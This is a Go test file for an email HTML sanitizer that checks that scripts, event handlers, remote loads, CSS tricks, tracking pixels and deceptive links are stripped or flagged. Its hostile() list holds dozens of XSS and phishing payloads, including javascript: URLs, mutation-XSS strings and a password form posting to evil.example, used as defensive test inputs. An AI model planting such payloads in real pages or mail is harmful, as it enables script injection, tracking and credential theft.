package safehtml_test

import (
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/postkeep/postkeep/web/safehtml"
)

func clean(t *testing.T, in string) string {
	t.Helper()
	out, err := safehtml.Clean(strings.NewReader(in), safehtml.Options{
		Blocked: "picture not loaded",
		Picture: func(id string) string {
			if id == "logo@example.org" {
				return safehtml.DataURI("image/png", []byte("png"))
			}
			return ""
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	_, body, ok := strings.Cut(string(out), "</head><body>")
	if !ok {
		t.Fatalf("no body in %q", out)
	}
	return strings.TrimSuffix(body, "</body></html>")
}

func TestNothingThatActsOrLoadsIsLeft(t *testing.T) {
	for _, in := range hostile() {
		out := clean(t, in)
		doc, err := html.Parse(strings.NewReader(out))
		if err != nil {
			t.Fatal(err)
		}
		for n := range doc.Descendants() {
			if n.Type != html.ElementNode {
				continue
			}
			switch n.Data {
			case "script", "style", "link", "meta", "base", "iframe", "frame", "object", "embed", "form", "input", "button",
				"svg", "math", "video", "audio", "source", "template", "textarea", "select", "portal":
				t.Errorf("%q leaves <%s>: %q", in, n.Data, out)
			}
			for _, a := range n.Attr {
				v := strings.ToLower(strings.TrimSpace(a.Val))
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "srcset", a.Key == "background", a.Key == "srcdoc", a.Key == "formaction", a.Key == "ping":
					t.Errorf("%q leaves %s=%q", in, a.Key, a.Val)
				case a.Key == "src" && !strings.HasPrefix(v, "data:image/"):
					t.Errorf("%q loads %q", in, a.Val)
				case a.Key == "href" && !strings.HasPrefix(v, "http://") && !strings.HasPrefix(v, "https://") && !strings.HasPrefix(v, "mailto:") && !strings.HasPrefix(v, "tel:"):
					t.Errorf("%q links to %q", in, a.Val)
				case a.Key == "style" && (strings.Contains(v, "url") || strings.Contains(v, "expression") || strings.Contains(v, "position") || strings.Contains(v, "@import") || strings.Contains(v, `\`)):
					t.Errorf("%q leaves the style %q", in, a.Val)
				}
			}
		}
	}
}

// hostile are ways to run or load something from HTML.
func hostile() []string {
	return []string{
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)><script>alert(1)</script></svg>`,
		`<a href="javascript:alert(1)">x</a>`, `<a href=" java&#x0A;script:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		`<a href="vbscript:x">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="//evil.example/x" ping="https://evil.example">x</a>`,
		`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="x.swf"></object>`, `<embed src=x>`,
		`<link rel=stylesheet href="https://evil.example/x.css">`, `<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>`,
		`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example/">`,
		`<form action="https://evil.example"><input name=password><button formaction="https://evil.example">go</button></form>`,
		`<div style="background:url(https://evil.example/x.png)">x</div>`, `<div style="background-image:u\72l(https://evil.example)">x</div>`,
		`<div style="position:fixed;inset:0">x</div>`, `<div style="width:expression(alert(1))">x</div>`, `<p style="color:red;behavior:url(x.htc)">x</p>`,
		`<table background="https://evil.example/x.png"><tr><td background=x>y</td></tr></table>`, `<img srcset="https://evil.example/1.png 1x">`,
		`<img src="https://evil.example/beacon.gif" width=1 height=1>`, `<img src="cid:unknown@example.org">`, `<img src="data:image/svg+xml;base64,PHN2Zy8+">`,
		`<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>`, `<audio src=x></audio>`,
		`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<template><script>alert(1)</script></template>`, `<!--><img src=x onerror=alert(1)>-->`, `<xmp><script>alert(1)</script></xmp>`,
		`<textarea><img src=x onerror=alert(1)></textarea>`, `<div onclick=alert(1) onmouseover="alert(1)">x</div>`, `<body onload=alert(1)>`,
		`<p class="postkeep-target">x</p>`, strings.Repeat("<div>", 20_000) + "x", `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
	}
}

func TestEnclosedPictureIsShownAndOthersAreNamed(t *testing.T) {
	if out := clean(t, `<img src="cid:logo@example.org" alt="logo" onload=x>`); !strings.Contains(out, `src="data:image/png;base64,cG5n"`) || strings.Contains(out, "onload") {
		t.Error(out)
	}
	if out := clean(t, `<img src="https://evil.example/a.png" alt="our office">`); !strings.Contains(out, ">our office</span>") {
		t.Error(out)
	}
	if out := clean(t, `<img src="https://evil.example/a.png">`); !strings.Contains(out, ">picture not loaded</span>") {
		t.Error(out)
	}
}

func TestLinkThatPretendsShowsItsTrueTarget(t *testing.T) {
	for in, deceives := range map[string]bool{
		`<a href="https://evil.example/login">https://www.bank.example/login</a>`: true,
		`<a href="https://evil.example">bank.example</a>`:                         true,
		`<a href="https://bank.example@evil.example/">bank.example</a>`:           true,
		`<a href="https://xn--bnk-6cd.example/">bаnk.example</a>`:                 false, // the text is the same host
		`<a href="https://xn--bnk-6cd.example/">bank.example</a>`:                 true,
		`<a href="https://www.bank.example/x">bank.example</a>`:                   false,
		`<a href="https://login.bank.example/x">https://bank.example</a>`:         false,
		`<a href="https://evil.example">click here</a>`:                           false,
		`<a href="https://evil.example">Version 2.0</a>`:                          false,
	} {
		out := clean(t, in)
		if strings.Contains(out, "postkeep-target") != deceives {
			t.Errorf("%s: %s", in, out)
		}
		if !strings.Contains(out, `rel="nofollow noreferrer noopener"`) && !strings.Contains(out, `noreferrer`) {
			t.Errorf("%s tells where it comes from: %s", in, out)
		}
	}
}

func TestUsualMailKeepsItsLook(t *testing.T) {
	in := `<table width="600" bgcolor="#ffffff"><tr><td align="center" style="color:#333333;font-size:14px;padding:8px 12px"><b>Hello</b></td></tr></table>`
	out := clean(t, in)
	for _, want := range []string{`width="600"`, `bgcolor="#ffffff"`, "color: #333333", "font-size: 14px", "padding: 8px 12px", "<b>Hello</b>"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %s in %s", want, out)
		}
	}
}

func TestCharsetOfTheMessageIsUsed(t *testing.T) {
	out, err := safehtml.Clean(strings.NewReader("<p>Gr\xfc\xdfe</p>"), safehtml.Options{Charset: "iso-8859-1"})
	if err != nil || !strings.Contains(string(out), "Grüße") {
		t.Errorf("%s, %v", out, err)
	}
}

func FuzzClean(f *testing.F) {
	for _, in := range hostile() {
		f.Add(in[:min(len(in), 200)])
	}
	f.Fuzz(func(t *testing.T, in string) {
		out, err := safehtml.Clean(strings.NewReader(in), safehtml.Options{})
		if err != nil {
			t.Fatal(err)
		}
		_, body, _ := strings.Cut(string(out), "<body>")
		low := strings.ToLower(body)
		for _, bad := range []string{"<script", "<iframe", "<object", "<style", "<form"} {
			if strings.Contains(low, bad) {
				t.Errorf("%q leaves %s", in, bad)
			}
		}
	})
}
